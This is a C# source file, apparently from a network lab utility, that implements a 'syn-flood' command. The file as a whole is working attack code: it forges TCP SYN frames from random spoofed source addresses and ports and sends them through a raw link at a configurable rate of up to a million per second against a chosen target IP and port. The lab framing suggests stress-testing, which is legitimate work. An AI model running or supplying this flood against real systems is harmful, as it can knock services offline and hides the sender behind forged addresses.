using System.Buffers.Binary;
using System.Diagnostics;

namespace LabTool;

/// <summary>
/// labtool syn-flood --target IP:PORT --eth-dst MAC [--interface eth0] [--sources CIDR]
///                   [--rate 5000] [--duration 10s]
///
/// TCP SYNs, paced, each from a random source address of --sources (default: the /24 of the
/// target, host numbers 128-254) and a random source port: every one is a new connection to
/// whatever tracks them. Nothing answers them (the sources do not exist), as in a real flood.
/// The frames leave with the interface's own MAC. Prints what it sent and how fast.
/// </summary>
static class SynFlood
{
    public static int Run(Options o)
    {
        var target = Options.ParseEndPoint("target", o.Require("target"), 80);
        var ethDst = MacAddress.Parse(o.Require("eth-dst"), "eth-dst");
        string name = o.Get("interface") ?? "eth0";
        string? sources = o.Get("sources");
        int rate = o.Int("rate", 5000, 1, 1_000_000);
        var duration = o.Duration("duration", TimeSpan.FromSeconds(10));
        o.CheckAllUsed();

        uint dst = Forge.Address(target.Address.ToString(), "target");
        var (first, span) = sources is null ? ((dst & 0xffff_ff00) | 128, 127u) : Range(sources);
        using var link = RawLink.Open(name);
        var frame = new byte[Frames.SynLength];
        var random = new Random();
        // Not disposed: the process-exit handler may run after Run returns.
        var stop = new CancellationTokenSource();
        Console.CancelKeyPress += (_, e) => { e.Cancel = true; stop.Cancel(); };
        AppDomain.CurrentDomain.ProcessExit += (_, _) => stop.Cancel();

        // Paced in slices of 1 ms: a sleep per frame would cost a core at these rates.
        long start = Stopwatch.GetTimestamp();
        long end = duration == TimeSpan.Zero ? long.MaxValue : start + (long)(duration.TotalSeconds * Stopwatch.Frequency);
        long sent = 0;
        while (!stop.IsCancellationRequested)
        {
            long now = Stopwatch.GetTimestamp();
            if (now >= end) break;
            long due = (long)((double)(now - start) / Stopwatch.Frequency * rate) + 1;
            for (; sent < due; sent++)
            {
                uint src = first + (uint)random.NextInt64(span);
                Frames.Syn(frame, link.Mac, ethDst, src, dst, (ushort)random.Next(1024, 65536), (ushort)target.Port, (uint)random.Next());
                link.Send(frame, frame.Length);
            }
            Pacer.WaitUntil(now + Stopwatch.Frequency / 1000);
        }
        double seconds = Stopwatch.GetElapsedTime(start).TotalSeconds;
        Console.WriteLine($"syn-flood: sent {sent} SYNs to {target} in {seconds:0.0} s ({sent / seconds:0}/s) from {span} source addresses");
        return 0;
    }

    /// <summary>The host addresses of a CIDR block (without its network and broadcast addresses when there are any).</summary>
    static (uint First, uint Span) Range(string cidr)
    {
        var parts = cidr.Split('/');
        if (parts.Length != 2 || !int.TryParse(parts[1], out int prefix) || prefix is < 8 or > 32)
            throw new UsageException($"--sources: want A.B.C.D/P with P from 8 to 32, not '{cidr}'");
        uint mask = prefix == 32 ? uint.MaxValue : ~(uint.MaxValue >> prefix);
        uint network = Forge.Address(parts[0], "sources") & mask;
        uint size = ~mask + 1;
        return size <= 2 ? (network, size) : (network + 1, size - 2);
    }
}
